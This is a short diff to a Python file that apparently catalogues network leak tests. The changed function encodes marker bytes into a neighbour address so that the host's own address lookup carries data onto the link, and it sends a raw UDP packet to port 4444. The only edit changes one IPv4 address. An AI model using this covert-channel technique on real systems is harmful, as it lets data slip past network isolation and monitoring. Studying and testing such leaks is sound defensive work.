@@ -341,7 +341,7 @@ def box_fragments(t):
 @attack(BOX, "the data as the address of a neighbour of the host's, which the host asks its link for", "", "", where="box",
         leaves="it is the host's own question, which comes before the packet: 1 byte of an IPv4 address, 8 of an IPv6 one, to its link")
 def box_neighbour(t):
-    to = "10.0.1.77" if t.family == 4 else str(ipaddress.IPv6Address(b"\xfd\0\0\1" + bytes(4) + t.marker))
+    to = "10.0.1.78" if t.family == 4 else str(ipaddress.IPv6Address(b"\xfd\0\0\1" + bytes(4) + t.marker))
     packet_socket().send(ether(t, craft.ip(t.source, to, craft.UDP, craft.udp(t.source, to, 4444, t.port, b"x"))))
 
 
